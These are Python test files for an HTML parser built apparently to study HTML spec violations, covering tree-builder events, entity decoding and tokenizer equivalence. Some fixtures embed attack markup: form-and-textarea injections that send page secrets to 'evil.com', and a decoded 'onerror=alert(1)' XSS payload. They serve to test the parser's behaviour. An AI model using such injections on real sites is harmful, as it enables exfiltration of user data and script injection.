        out = dump_tree(parse('<!DOCTYPE html><p z="1" a="2">').document)
        lines = [line.strip("| ") for line in out.splitlines()]
        a_index = lines.index('a="2"')
        z_index = lines.index('z="1"')
        assert a_index < z_index
