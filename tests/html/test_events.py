"""Tree-builder fix-up events — the instrumentation the definition-violation
rules consume.  Each event kind gets positive and negative cases."""
from __future__ import annotations

import pytest

from repro.html import MATHML_NAMESPACE, SVG_NAMESPACE, parse


def kinds(result):
    return [event.kind for event in result.events]


CLEAN_PAGE = (
    "<!DOCTYPE html><html><head><title>t</title></head>"
    "<body><p>x</p></body></html>"
)


class TestCleanDocuments:
    def test_complete_page_no_events(self):
        assert parse(CLEAN_PAGE).events == []

    def test_clean_tables_forms_svg(self):
        result = parse(
            "<!DOCTYPE html><html><head><title>t</title></head><body>"
            "<table><tbody><tr><td>x</td></tr></tbody></table>"
            "<form action='/s'><input name=q></form>"
            "<svg><rect width='1' height='1'></rect></svg>"
            "</body></html>"
        )
        assert result.events == []


class TestHeadEvents:
    def test_head_start_implied(self):
        result = parse("<!DOCTYPE html><html><body>x</body></html>")
        assert "head-start-implied" in kinds(parse("<html><body>x"))

    def test_head_end_implied_by_body(self):
        result = parse("<html><head><title>t</title><body>x")
        events = result.events_of("head-end-implied")
        assert len(events) == 1
        assert events[0].detail == "body"

    def test_disallowed_element_in_head(self):
        result = parse(
            "<html><head><title>t</title><div hidden>m</div></head><body>x"
        )
        disallowed = result.events_of("disallowed-in-head")
        assert [event.tag for event in disallowed] == ["div"]
        assert "head-end-implied" in kinds(result)

    def test_head_element_after_head(self):
        result = parse(
            "<html><head><title>t</title></head>"
            '<link rel="stylesheet" href="/x.css"><body>x'
        )
        events = result.events_of("head-element-after-head")
        assert [event.tag for event in events] == ["link"]
        # link is rerouted INTO the head
        assert parse(
            '<html><head></head><link href="/x.css"><body>'
        ).document.head.find("link") is not None

    def test_explicit_head_no_events(self):
        result = parse(CLEAN_PAGE)
        assert result.events_of("head-start-implied") == []
        assert result.events_of("head-end-implied") == []

    def test_google_404_shape(self):
        """Figure 12: Google's 404 misses head and body tags."""
        result = parse(
            "<!DOCTYPE html><html lang=en><meta charset=utf-8>"
            "<title>Error 404 (Not Found)!!1</title><style>*{margin:0}</style>"
            '<a href="//www.google.com/"><span id=logo></span></a>'
            "<p><b>404.</b> <ins>That’s an error.</ins>"
        )
        assert "head-start-implied" in kinds(result)
        assert "head-end-implied" in kinds(result)
        assert "body-start-implied" in kinds(result)


class TestBodyEvents:
    def test_body_start_implied_by_content(self):
        result = parse("<html><head></head><img src='x.gif'><body>")
        implied = result.events_of("body-start-implied")
        assert len(implied) == 1
        assert implied[0].detail == "img"

    def test_body_start_implied_at_eof_has_eof_detail(self):
        result = parse("<html><head><title>t</title></head>")
        implied = result.events_of("body-start-implied")
        assert [event.detail for event in implied] == ["#eof"]

    def test_second_body_merged(self):
        result = parse("<body class=a><body class=b onload=x()>")
        assert len(result.events_of("second-body-merged")) == 1
        body = result.document.body
        assert body.get("class") == "a"          # first wins
        assert body.get("onload") == "x()"       # new attrs added

    def test_figure4_p_absorbs_body(self):
        """Figure 4: '<p' with no '>' absorbs the body tag and its onload."""
        result = parse('<html><head></head><p\n<body onload="check()">x')
        body = result.document.body
        # The body element exists but the onload check was swallowed into
        # the p tag's attributes.
        assert body is not None
        assert body.get("onload") is None


class TestFormEvents:
    def test_nested_form_ignored(self):
        result = parse(
            '<form action="https://evil.com"><form action="/real">'
            "<input name=q></form>"
        )
        assert len(result.events_of("nested-form-ignored")) == 1
        forms = result.document.find_all("form")
        assert len(forms) == 1
        assert forms[0].get("action") == "https://evil.com"

    def test_sequential_forms_fine(self):
        result = parse("<form action='/a'></form><form action='/b'></form>")
        assert result.events_of("nested-form-ignored") == []
        assert len(result.document.find_all("form")) == 2

    def test_form_in_table_with_open_form(self):
        result = parse(
            "<form action='/outer'><table><form action='/inner'>"
            "<tr><td>x</td></tr></table></form>"
        )
        assert len(result.events_of("nested-form-ignored")) == 1


class TestEofEvents:
    def test_unclosed_textarea(self):
        result = parse("<body><textarea>rest of page")
        events = result.events_of("rcdata-closed-at-eof")
        assert [event.tag for event in events] == ["textarea"]

    def test_closed_textarea_clean(self):
        result = parse("<body><textarea>ok</textarea>")
        assert result.events_of("rcdata-closed-at-eof") == []

    def test_unclosed_select_and_option(self):
        result = parse("<body><select><option>France")
        open_tags = {e.tag for e in result.events_of("element-open-at-eof")}
        assert {"select", "option"} <= open_tags

    def test_figure3_textarea_exfiltration(self):
        """Figure 3: the injected textarea swallows the secret."""
        result = parse(
            '<body><form action="https://evil.com">'
            '<input type="submit"><textarea>\n'
            "<p>My little secret</p>"
        )
        area = result.document.find("textarea")
        assert "My little secret" in area.text_content()
        assert result.events_of("rcdata-closed-at-eof")

    def test_unclosed_div_reported(self):
        result = parse("<body><div>unclosed")
        assert "div" in {e.tag for e in result.events_of("element-open-at-eof")}

    def test_p_open_at_eof_is_reported_as_open(self):
        # p may legally omit its end tag; the event is still recorded and
        # rule policy decides (DE rules ignore p).
        result = parse("<body><p>fine")
        assert "p" in {e.tag for e in result.events_of("element-open-at-eof")}


class TestFosterParenting:
    def test_strong_in_tr(self):
        result = parse("<table><tr><strong>X</strong></tr></table>")
        fostered = result.events_of("foster-parented")
        assert any(event.tag == "strong" for event in fostered)

    def test_figure11_cozi(self):
        result = parse(
            "<table><tr><strong>Cozi Organizer</strong></tr>"
            "<tr><td>The #1 organizing app</td></tr></table>"
        )
        assert result.events_of("foster-parented")

    def test_clean_table_no_events(self):
        result = parse("<table><tr><td><strong>X</strong></td></tr></table>")
        assert result.events_of("foster-parented") == []


class TestForeignBreakout:
    def test_breakout_namespace_recorded(self):
        result = parse("<body><math><mrow><div>x</div></mrow></math>")
        events = result.events_of("foreign-breakout")
        assert len(events) == 1
        assert events[0].namespace == MATHML_NAMESPACE
        assert events[0].tag == "div"

    def test_svg_breakout(self):
        result = parse("<body><svg><p>x</p></svg>")
        assert result.events_of("foreign-breakout")[0].namespace == SVG_NAMESPACE
