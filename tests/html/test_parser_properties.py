"""Property-based invariants of the tokenizer and tree builder."""
from __future__ import annotations

import random
from html.entities import html5

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.html import parse, serialize, tokenize
from repro.html.dom import Element, Node
from repro.html.preprocessor import preprocess
from repro.html.tokens import EOF, EndTag, StartTag

_MARKUPISH = st.text(
    alphabet=st.sampled_from(list("<>/=&;\"' abcdefgh-!?#x0123\n\t")),
    max_size=120,
)


class TestTokenizerInvariants:
    @given(_MARKUPISH)
    @settings(max_examples=250, deadline=None)
    def test_never_crashes_and_ends_with_eof(self, text):
        tokens, _errors = tokenize(text)
        assert isinstance(tokens[-1], EOF)
        assert sum(isinstance(t, EOF) for t in tokens) == 1

    @given(_MARKUPISH)
    @settings(max_examples=250, deadline=None)
    def test_error_offsets_in_bounds(self, text):
        _tokens, errors = tokenize(text)
        for error in errors:
            assert 0 <= error.offset <= len(text) + 1

    @given(_MARKUPISH)
    @settings(max_examples=250, deadline=None)
    def test_tag_spans_well_formed(self, text):
        tokens, _errors = tokenize(text)
        for token in tokens:
            if isinstance(token, (StartTag, EndTag)) and token.end:
                assert 0 <= token.offset < token.end <= len(text)
                assert text[token.offset] == "<"

    @given(_MARKUPISH)
    @settings(max_examples=250, deadline=None)
    def test_token_offsets_nondecreasing(self, text):
        tokens, _errors = tokenize(text)
        tag_offsets = [
            t.offset for t in tokens if isinstance(t, (StartTag, EndTag))
        ]
        assert tag_offsets == sorted(tag_offsets)

    @given(_MARKUPISH)
    @settings(max_examples=250, deadline=None)
    def test_tag_names_lowercase(self, text):
        tokens, _errors = tokenize(text)
        for token in tokens:
            if isinstance(token, (StartTag, EndTag)):
                assert token.name == token.name.lower()
                for attribute in token.attributes:
                    # names are lowercased except for the error-recovery
                    # characters the spec appends verbatim
                    assert attribute.name == attribute.name.lower() or any(
                        ch in attribute.name for ch in "\"'<"
                    )


class TestTreeInvariants:
    @given(_MARKUPISH)
    @settings(max_examples=200, deadline=None)
    def test_tree_is_consistent(self, text):
        document = parse(text).document
        seen: set[int] = set()

        def walk(node: Node) -> None:
            assert id(node) not in seen, "node appears twice (cycle/dup)"
            seen.add(id(node))
            for child in node.children:
                assert child.parent is node
                walk(child)

        walk(document)

    @given(_MARKUPISH)
    @settings(max_examples=200, deadline=None)
    def test_document_has_html_root_when_nonempty(self, text):
        result = parse(text)
        elements = list(result.document.iter_elements())
        if elements:
            root = result.document.document_element
            assert root is not None and root.name == "html"
            # html/head/body appear at most once directly under the root
            top = [c.name for c in root.children if isinstance(c, Element)]
            assert top.count("head") <= 1
            assert top.count("body") + top.count("frameset") <= 1

    @given(_MARKUPISH)
    @settings(max_examples=200, deadline=None)
    def test_events_reference_valid_offsets(self, text):
        result = parse(text)
        for event in result.events:
            assert event.offset >= -1
            assert event.offset <= len(result.source) + 1

    @given(_MARKUPISH)
    @settings(max_examples=100, deadline=None)
    def test_checker_never_crashes_on_soup(self, text):
        from repro.core import Checker

        report = Checker().check_html(text)
        for finding in report.findings:
            assert finding.violation


class TestEntityRoundTrip:
    """Every named character reference survives parse → serialize → parse.

    Pure stdlib ``random`` (seeded) rather than hypothesis: the test is
    exhaustive over the entity table, and the random part only varies the
    surrounding context, so a fixed seed keeps it deterministic.
    """

    def test_every_named_entity_roundtrips_through_serializer(self):
        rng = random.Random(1729)
        letters = "abcdefgh"
        for name in sorted(html5):
            expansion = html5[name]
            prefix = "".join(
                rng.choice(letters) for _ in range(rng.randrange(0, 4))
            )
            # the space stops a semicolon-less (legacy) reference from
            # absorbing the suffix into a longer candidate name
            suffix = " " + "".join(
                rng.choice(letters) for _ in range(rng.randrange(0, 4))
            )
            source = f"<p>{prefix}&{name}{suffix}</p>"
            document = parse(source).document
            text = document.text_content()
            assert expansion in text, f"&{name} did not decode"
            reparsed = parse(serialize(document)).document
            assert reparsed.text_content() == text, (
                f"&{name} did not round-trip through the serializer"
            )

    def test_named_entities_roundtrip_inside_attributes(self):
        rng = random.Random(8128)
        sample = rng.sample(sorted(n for n in html5 if n.endswith(";")), 200)
        for name in sample:
            source = f'<p title="x&{name}y">t</p>'
            document = parse(source).document
            paragraph = document.find("p")
            value = paragraph.attributes["title"]
            assert value == f"x{html5[name]}y"
            reparsed = parse(serialize(document)).document
            assert reparsed.find("p").attributes["title"] == value


class TestPreprocessorIdempotence:
    """CRLF/NUL normalization is a fix-point (stdlib random, seeded)."""

    def test_preprocess_idempotent_on_crlf_nul_soup(self):
        rng = random.Random(4242)
        alphabet = "\r\n\x00aZ<&;"
        for _ in range(400):
            text = "".join(
                rng.choice(alphabet)
                for _ in range(rng.randrange(0, 64))
            )
            once = preprocess(text).text
            assert "\r" not in once
            assert preprocess(once).text == once

    def test_preprocess_normalizes_all_cr_forms(self):
        assert preprocess("a\r\nb\rc\nd").text == "a\nb\nc\nd"
