"""Character-reference decoding (HTML 13.2.5.72+) tests."""
from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.html import decode_entities
from repro.html.entities import consume_character_reference
from repro.html.errors import ErrorCode


class TestNamedReferences:
    @pytest.mark.parametrize(
        ("text", "expected"),
        [
            ("&amp;", "&"),
            ("&lt;", "<"),
            ("&gt;", ">"),
            ("&quot;", '"'),
            ("&nbsp;", "\xa0"),
            ("&copy;", "©"),
            ("&mdash;", "—"),
            ("&Uuml;", "Ü"),
        ],
    )
    def test_common_names(self, text, expected):
        assert decode_entities(text) == expected

    def test_legacy_without_semicolon(self):
        assert decode_entities("&amp x") == "& x"

    def test_legacy_without_semicolon_reports_error(self):
        result = consume_character_reference("amp x", 0, in_attribute=False)
        assert result.matched
        assert result.text == "&"
        assert [e.code for e in result.errors] == [
            ErrorCode.MISSING_SEMICOLON_AFTER_CHARACTER_REFERENCE
        ]

    def test_unknown_name_with_semicolon(self):
        result = consume_character_reference("nosuchentity;", 0, in_attribute=False)
        assert not result.matched
        assert [e.code for e in result.errors] == [
            ErrorCode.UNKNOWN_NAMED_CHARACTER_REFERENCE
        ]

    def test_unknown_name_without_semicolon_silent(self):
        result = consume_character_reference("nosuchentity ", 0, in_attribute=False)
        assert not result.matched
        assert result.errors == []

    def test_attribute_legacy_carveout(self):
        # '&not' followed by alnum in an attribute stays literal text
        # (historical compatibility, spec 13.2.5.73).
        result = consume_character_reference("notit;x", 0, in_attribute=True)
        assert not result.matched

    def test_longest_match_wins(self):
        # &notin; exists and must beat the legacy &not prefix.
        assert decode_entities("&notin;") == "∉"


class TestNumericReferences:
    @pytest.mark.parametrize(
        ("text", "expected"),
        [
            ("&#65;", "A"),
            ("&#x41;", "A"),
            ("&#X41;", "A"),
            ("&#x1F600;", "😀"),
        ],
    )
    def test_basic(self, text, expected):
        assert decode_entities(text) == expected

    def test_missing_semicolon(self):
        result = consume_character_reference("#65 ", 0, in_attribute=False)
        assert result.text == "A"
        assert [e.code for e in result.errors] == [
            ErrorCode.MISSING_SEMICOLON_AFTER_CHARACTER_REFERENCE
        ]

    def test_null_becomes_replacement(self):
        result = consume_character_reference("#0;", 0, in_attribute=False)
        assert result.text == "�"
        assert ErrorCode.NULL_CHARACTER_REFERENCE in [e.code for e in result.errors]

    def test_out_of_range(self):
        result = consume_character_reference("#x110000;", 0, in_attribute=False)
        assert result.text == "�"
        assert ErrorCode.CHARACTER_REFERENCE_OUTSIDE_UNICODE_RANGE in [
            e.code for e in result.errors
        ]

    def test_surrogate(self):
        result = consume_character_reference("#xD800;", 0, in_attribute=False)
        assert result.text == "�"
        assert ErrorCode.SURROGATE_CHARACTER_REFERENCE in [
            e.code for e in result.errors
        ]

    def test_windows_1252_mapping(self):
        # &#x80; maps to the Euro sign per the spec's replacement table.
        result = consume_character_reference("#x80;", 0, in_attribute=False)
        assert result.text == "€"
        assert ErrorCode.CONTROL_CHARACTER_REFERENCE in [
            e.code for e in result.errors
        ]

    def test_no_digits(self):
        result = consume_character_reference("#;", 0, in_attribute=False)
        assert ErrorCode.ABSENCE_OF_DIGITS_IN_NUMERIC_CHARACTER_REFERENCE in [
            e.code for e in result.errors
        ]

    def test_hex_marker_without_digits(self):
        result = consume_character_reference("#x;", 0, in_attribute=False)
        assert ErrorCode.ABSENCE_OF_DIGITS_IN_NUMERIC_CHARACTER_REFERENCE in [
            e.code for e in result.errors
        ]


class TestDecodeEntities:
    def test_mixed_text(self):
        assert (
            decode_entities("a &amp; b &lt;tag&gt; &#33;") == "a & b <tag> !"
        )

    def test_bare_ampersand_kept(self):
        assert decode_entities("fish & chips") == "fish & chips"

    def test_ampersand_at_end(self):
        assert decode_entities("end&") == "end&"

    def test_paper_figure1_title(self):
        # The Figure 1 payload decodes its title into live markup.
        encoded = "--&gt;&lt;img src=1 onerror=alert(1)&gt;"
        assert decode_entities(encoded) == "--><img src=1 onerror=alert(1)>"

    @given(st.text(alphabet=st.characters(exclude_characters="&")))
    def test_no_ampersand_is_identity(self, text):
        assert decode_entities(text) == text

    @given(st.text())
    def test_never_crashes(self, text):
        decode_entities(text)
        decode_entities(text, in_attribute=True)

    @given(st.sampled_from(sorted(__import__("html.entities", fromlist=["html5"]).html5)))
    def test_every_spec_named_reference_decodes(self, name):
        from html.entities import html5

        decoded = decode_entities(f"pre &{name} post")
        # semicolon-terminated names must always decode; legacy names
        # (no semicolon) decode when not followed by an alphanumeric
        if name.endswith(";"):
            assert decoded == f"pre {html5[name]} post"
        else:
            assert decoded == f"pre {html5[name]} post"

    @given(st.integers(min_value=0x20, max_value=0x10FFFF))
    def test_numeric_reference_roundtrip(self, code):
        if 0xD800 <= code <= 0xDFFF:
            return  # surrogates map to U+FFFD, tested separately
        decoded = decode_entities(f"&#{code};")
        if code == 0x7F or code in range(0x80, 0xA0):
            return  # C1 range has spec replacements
        if (code & 0xFFFE) == 0xFFFE or 0xFDD0 <= code <= 0xFDEF:
            assert decoded == chr(code)  # noncharacters pass through
        else:
            assert decoded == chr(code)
