"""Tier-1 equivalence: chunked fast path vs per-character reference scanner.

The tokenizer's hot states bulk-scan to the next delimiter
(``CHUNK_BREAK_SETS`` in :mod:`repro.html.tokenizer`);
:class:`repro.html.reference_tokenizer.ReferenceTokenizer` retains the
spec-literal one-character-at-a-time loops for exactly those states.  These
tests replay every regression-corpus entry and every synthetic Common Crawl
template page (clean and violation-injected) through both scanners and
assert the **identical token stream and identical parse-error sequence** —
the errors are the study's violation signal, so any divergence here is a
measurement bug.
"""
from __future__ import annotations

import random
import unittest
from pathlib import Path

from repro.commoncrawl.templates import INJECTORS, build_page
from repro.fuzz import load_corpus
from repro.html import decode_bytes
from repro.html.reference_tokenizer import (
    CHUNK_BREAK_SETS,
    REFERENCE_OVERRIDES,
    reference_tokenize,
)
from repro.html.tokenizer import Tokenizer

CORPUS_DIR = Path(__file__).resolve().parents[1] / "fuzz_corpus"


def fast_tokenize(text: str) -> tuple[list, list]:
    tokenizer = Tokenizer(text)
    return list(tokenizer), tokenizer.errors


def assert_equivalent(test: unittest.TestCase, text: str, source: str) -> None:
    fast_tokens, fast_errors = fast_tokenize(text)
    ref_tokens, ref_errors = reference_tokenize(text)
    test.assertEqual(
        fast_tokens, ref_tokens, f"token stream diverged on {source}"
    )
    test.assertEqual(
        fast_errors, ref_errors, f"parse-error sequence diverged on {source}"
    )


class TestScannerLockstep(unittest.TestCase):
    """The two scanners must stay structurally in sync."""

    def test_every_chunked_state_has_a_reference_twin(self):
        # A newly chunked state cannot ship without its per-character twin,
        # and a stale override (for a state no longer chunked) is equally
        # a bug: it would silently stop being compared.
        self.assertEqual(REFERENCE_OVERRIDES, frozenset(CHUNK_BREAK_SETS))


class TestCorpusEquivalence(unittest.TestCase):
    """Every regression-corpus entry tokenizes identically on both paths."""

    def test_corpus_entries(self):
        entries = load_corpus(CORPUS_DIR)
        self.assertGreater(len(entries), 0)
        checked = 0
        for entry in entries:
            text = decode_bytes(entry.data)
            if text is None:
                continue  # non-UTF-8 inputs are outside the study's scope
            assert_equivalent(self, text, entry.source)
            checked += 1
        self.assertGreater(checked, 0)


class TestTemplateEquivalence(unittest.TestCase):
    """Every synthetic study page tokenizes identically on both paths."""

    def test_clean_pages(self):
        rng = random.Random(1302)
        for index in range(12):
            draft = build_page(
                f"domain{index}.example",
                f"/page/{index}",
                rng,
                use_svg=index % 3 == 0,
                use_math=index % 4 == 0,
            )
            assert_equivalent(self, draft.render(), f"clean page {index}")

    def test_injected_pages(self):
        # every injector appears at least once, singly and combined
        rng = random.Random(1303)
        names = sorted(INJECTORS)
        for name in names:
            draft = build_page(f"{name.lower()}.example", "/", rng)
            INJECTORS[name].apply(draft, rng)
            assert_equivalent(self, draft.render(), f"injector {name}")
        for index in range(12):
            draft = build_page(f"multi{index}.example", "/", rng)
            picks = rng.sample(names, k=3)
            # terminal injectors rewrite the page tail; they must run last
            picks.sort(key=lambda n: INJECTORS[n].terminal)
            for name in picks:
                INJECTORS[name].apply(draft, rng)
            assert_equivalent(
                self, draft.render(), f"injected page {index} ({picks})"
            )

    def test_plaintext_and_script_escape_content(self):
        # the content-model states the fast path chunks hardest
        cases = [
            "<plaintext>never closed &amp; <b>not markup</b>\x00 tail",
            "<script><!-- if (a<b) { c-- } --></script>",
            "<script><!--<script>nested</script>--></script>",
            "<title>rcdata &amp; entities &notin; <b></title>",
            "<textarea>\r\nline&#10;line</textarea>",
            "<style>a[href^=\"x\"] { content: '</'; }</style>",
            "<!--comment with -- dashes --->text<![CDATA[in html]]>",
        ]
        for case in cases:
            assert_equivalent(self, case, repr(case))


if __name__ == "__main__":
    unittest.main()
