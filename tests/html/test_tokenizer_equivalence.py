"""Tier-1 equivalence: bytes scanner vs chunked fast path vs reference.

The tokenizer's hot states bulk-scan to the next delimiter
(``CHUNK_BREAK_SETS`` in :mod:`repro.html.tokenizer`);
:class:`repro.html.reference_tokenizer.ReferenceTokenizer` retains the
spec-literal one-character-at-a-time loops for exactly those states; and
:class:`repro.html.bytes_tokenizer.BytesTokenizer` runs the same state
machine decode-free over raw UTF-8 bytes with lazy text materialization.
These tests replay every regression-corpus entry and every synthetic
Common Crawl template page (clean and violation-injected) through all
three scanners and assert the **identical token stream and identical
parse-error sequence** — the errors are the study's violation signal, so
any divergence here is a measurement bug.

The bytes path is compared against the str path over
``preprocess(text).text``, because the bytes tokenizer folds the input
preprocessor (BOM strip, CR/CRLF → LF) into its scan.
"""
from __future__ import annotations

import random
import unittest
from pathlib import Path

from repro.commoncrawl.templates import INJECTORS, build_page
from repro.fuzz import load_corpus
from repro.html import decode_bytes, preprocess
from repro.html.bytes_tokenizer import BYTES_OVERRIDES, BytesTokenizer
from repro.html.reference_tokenizer import (
    CHUNK_BREAK_SETS,
    REFERENCE_OVERRIDES,
    reference_tokenize,
)
from repro.html.tokenizer import Tokenizer

CORPUS_DIR = Path(__file__).resolve().parents[1] / "fuzz_corpus"


def fast_tokenize(text: str) -> tuple[list, list]:
    tokenizer = Tokenizer(text)
    return list(tokenizer), tokenizer.errors


def assert_equivalent(test: unittest.TestCase, text: str, source: str) -> None:
    """Three-way: str fast path vs reference, and bytes vs str."""
    fast_tokens, fast_errors = fast_tokenize(text)
    ref_tokens, ref_errors = reference_tokenize(text)
    test.assertEqual(
        fast_tokens, ref_tokens, f"token stream diverged on {source}"
    )
    test.assertEqual(
        fast_errors, ref_errors, f"parse-error sequence diverged on {source}"
    )
    assert_bytes_equivalent(test, text.encode("utf-8"), source)


def assert_bytes_equivalent(
    test: unittest.TestCase, data: bytes, source: str
) -> None:
    """The bytes scanner matches decode + preprocess + str tokenization.

    Token equality goes through ``Token.__eq__``, which materializes lazy
    character data and lazy attributes — so this also proves the lazy
    representations decode to the right text at the right offsets.
    """
    text = decode_bytes(data)
    test.assertIsNotNone(text, f"expected UTF-8 input for {source}")
    clean = preprocess(text).text
    str_tokenizer = Tokenizer(clean)
    str_tokens = list(str_tokenizer)
    bytes_tokenizer = BytesTokenizer(data)
    bytes_tokens = list(bytes_tokenizer)
    test.assertEqual(
        bytes_tokens, str_tokens, f"bytes token stream diverged on {source}"
    )
    test.assertEqual(
        bytes_tokenizer.errors,
        str_tokenizer.errors,
        f"bytes parse-error sequence diverged on {source}",
    )


class TestScannerLockstep(unittest.TestCase):
    """The three scanners must stay structurally in sync."""

    def test_every_chunked_state_has_a_reference_twin(self):
        # A newly chunked state cannot ship without its per-character twin,
        # and a stale override (for a state no longer chunked) is equally
        # a bug: it would silently stop being compared.
        self.assertEqual(REFERENCE_OVERRIDES, frozenset(CHUNK_BREAK_SETS))

    def test_every_chunked_state_has_a_bytes_twin(self):
        # The bytes tokenizer must re-chunk exactly the states the str
        # fast path chunks: a missing override silently falls back to the
        # inherited per-character loop (a perf bug), an extra one chunks a
        # state with no reference twin (an unverified state).
        self.assertEqual(BYTES_OVERRIDES, frozenset(CHUNK_BREAK_SETS))
        self.assertEqual(BYTES_OVERRIDES, REFERENCE_OVERRIDES)


class TestCorpusEquivalence(unittest.TestCase):
    """Every regression-corpus entry tokenizes identically on both paths."""

    def test_corpus_entries(self):
        entries = load_corpus(CORPUS_DIR)
        self.assertGreater(len(entries), 0)
        checked = 0
        for entry in entries:
            text = decode_bytes(entry.data)
            if text is None:
                continue  # non-UTF-8 inputs are outside the study's scope
            assert_equivalent(self, text, entry.source)
            # also replay the *original* bytes (BOM/CR intact) so the
            # folded-in preprocessing is exercised on real regressions
            assert_bytes_equivalent(self, entry.data, entry.source)
            checked += 1
        self.assertGreater(checked, 0)


class TestTemplateEquivalence(unittest.TestCase):
    """Every synthetic study page tokenizes identically on both paths."""

    def test_clean_pages(self):
        rng = random.Random(1302)
        for index in range(12):
            draft = build_page(
                f"domain{index}.example",
                f"/page/{index}",
                rng,
                use_svg=index % 3 == 0,
                use_math=index % 4 == 0,
            )
            assert_equivalent(self, draft.render(), f"clean page {index}")

    def test_injected_pages(self):
        # every injector appears at least once, singly and combined
        rng = random.Random(1303)
        names = sorted(INJECTORS)
        for name in names:
            draft = build_page(f"{name.lower()}.example", "/", rng)
            INJECTORS[name].apply(draft, rng)
            assert_equivalent(self, draft.render(), f"injector {name}")
        for index in range(12):
            draft = build_page(f"multi{index}.example", "/", rng)
            picks = rng.sample(names, k=3)
            # terminal injectors rewrite the page tail; they must run last
            picks.sort(key=lambda n: INJECTORS[n].terminal)
            for name in picks:
                INJECTORS[name].apply(draft, rng)
            assert_equivalent(
                self, draft.render(), f"injected page {index} ({picks})"
            )

    def test_plaintext_and_script_escape_content(self):
        # the content-model states the fast path chunks hardest
        cases = [
            "<plaintext>never closed &amp; <b>not markup</b>\x00 tail",
            "<script><!-- if (a<b) { c-- } --></script>",
            "<script><!--<script>nested</script>--></script>",
            "<title>rcdata &amp; entities &notin; <b></title>",
            "<textarea>\r\nline&#10;line</textarea>",
            "<style>a[href^=\"x\"] { content: '</'; }</style>",
            "<!--comment with -- dashes --->text<![CDATA[in html]]>",
        ]
        for case in cases:
            assert_equivalent(self, case, repr(case))


class TestBytesDomainEquivalence(unittest.TestCase):
    """Inputs that only exist below the decode layer: multi-byte UTF-8
    boundaries, BOM/CRLF byte forms, and undecodable tails."""

    def test_non_ascii_text(self):
        # 2/3/4-byte sequences and combining marks across every content
        # model the bytes scanner chunks: these force the lazy byte-span
        # representation to fall back to eager decode mid-run, and check
        # the code-point (not byte) offset accounting
        cases = [
            "漢字テスト<p>段落 🎉 emoji</p>",
            "<p title='さくら'>日本語の文章と🧪絵文字</p>",
            "combining: áê <b>ликвидация</b> α β γ",
            "<таблица атрибут='значение'>non-ASCII tag</таблица>",
            "<script>var s = '漢字' + \"🎉\";</script>",
            "<title>日本語 &amp; 漢字</title>",
            "<plaintext>終わらない 🎉\x00 text",
            "<!-- コメント 🎉 --><!doctype html 日本語>",
            "<textarea>многострочный\r\nтекст</textarea>",
            "&#x6f22;&#x5b57;&amp;漢&notin;字&#127881;",
            "dense &amp;&lt;&gt;&quot;&AMP&#x41;&#1114112;&unknown;&notit; run",
        ]
        for case in cases:
            assert_equivalent(self, case, repr(case))

    def test_bom_and_crlf_byte_forms(self):
        # BOM stripping and newline normalization are folded into the
        # bytes scan; the str path does them in decode_bytes/preprocess
        cases = [
            b"\xef\xbb\xbf<!doctype html><p>bom page</p>",
            b"\xef\xbb\xbf\r\n<html>\r\nbom + crlf\r</html>\r\n",
            b"line one\r\nline two\rline three\r\r\nline four",
            b"<pre>\r\n\r\n\r</pre>\r",
            b"<a href='x\ry'>\r\nCR in attribute value</a>",
            b"\xef\xbb\xbf\xef\xbb\xbfdouble bom: second survives",
            b"\r",
            b"\xef\xbb\xbf",
        ]
        for case in cases:
            assert_bytes_equivalent(self, case, repr(case))

    def test_nul_and_stray_bytes(self):
        cases = [
            b"data \x00 nul<p\x00>in tag</p>",
            b"<a b='\x00'>nul in attribute</a>",
            b"<script>\x00</script><plaintext>\x00",
            b"stray CR tail\r",
            b"\x00",
        ]
        for case in cases:
            assert_bytes_equivalent(self, case, repr(case))

    def test_invalid_utf8_raises(self):
        # the section 4.1 encoding filter: an undecodable page must
        # surface as UnicodeDecodeError from the scan, never as garbage
        # tokens — including truncated multi-byte sequences at EOF, where
        # the str path never even gets a string to compare against
        cases = [
            b"truncated two-byte tail \xc3",
            b"truncated three-byte tail \xe6\xbc",
            b"truncated four-byte tail \xf0\x9f\x8e",
            b"lone continuation \x80 byte",
            b"overlong \xc0\xaf encoding",
            b"surrogate half \xed\xa0\x80",
            b"<p title='\xffin attribute'>",
            b"<script>\xfe</script>",
            b"\xef\xbb\xbf\xc3",  # BOM then truncated tail
        ]
        for case in cases:
            self.assertIsNone(decode_bytes(case), repr(case))
            with self.assertRaises(UnicodeDecodeError, msg=repr(case)):
                for _ in BytesTokenizer(case):
                    pass


if __name__ == "__main__":
    unittest.main()
