"""Tree construction (HTML 13.2.6) tests: DOM shapes, implied elements,
tables, formatting elements, foreign content."""
from __future__ import annotations

import pytest

from repro.html import (
    HTML_NAMESPACE,
    MATHML_NAMESPACE,
    SVG_NAMESPACE,
    parse,
    serialize,
)
from repro.html.dom import CommentNode, Element, Text


def body_html(text: str) -> str:
    result = parse(text)
    body = result.document.body
    assert body is not None
    from repro.html import inner_html

    return inner_html(body)


class TestDocumentStructure:
    def test_full_document(self):
        result = parse(
            "<!DOCTYPE html><html><head><title>t</title></head>"
            "<body><p>x</p></body></html>"
        )
        document = result.document
        assert document.doctype is not None and document.doctype.name == "html"
        assert document.document_element.name == "html"
        assert document.head.name == "head"
        assert document.body.name == "body"
        assert not document.quirks_mode

    def test_implied_html_head_body(self):
        result = parse("<p>bare</p>")
        document = result.document
        assert document.document_element is not None
        assert document.head is not None and document.head.implied
        assert document.body is not None and document.body.implied
        assert document.body.find("p") is not None

    def test_missing_doctype_sets_quirks(self):
        assert parse("<html></html>").document.quirks_mode

    def test_doctype_present_no_quirks(self):
        assert not parse("<!DOCTYPE html>x").document.quirks_mode

    def test_head_content_routed_to_head(self):
        result = parse(
            "<!DOCTYPE html><title>t</title><meta charset=utf-8><p>body</p>"
        )
        head = result.document.head
        assert head.find("title") is not None
        assert head.find("meta") is not None
        assert result.document.body.find("p") is not None

    def test_whitespace_before_html_ignored(self):
        result = parse("   \n  <!-- c --><p>x</p>")
        assert result.document.body.find("p") is not None

    def test_comment_before_doctype_on_document(self):
        result = parse("<!-- early --><!DOCTYPE html><p>x</p>")
        assert any(
            isinstance(node, CommentNode) for node in result.document.children
        )

    def test_html_attributes_merged_from_second_html(self):
        result = parse('<html lang="en"><body><html data-x="1">')
        root = result.document.document_element
        assert root.get("lang") == "en"
        assert root.get("data-x") == "1"

    def test_text_content(self):
        result = parse("<p>one <b>two</b> three</p>")
        assert result.document.body.text_content() == "one two three"


class TestImpliedEndTags:
    def test_p_closed_by_p(self):
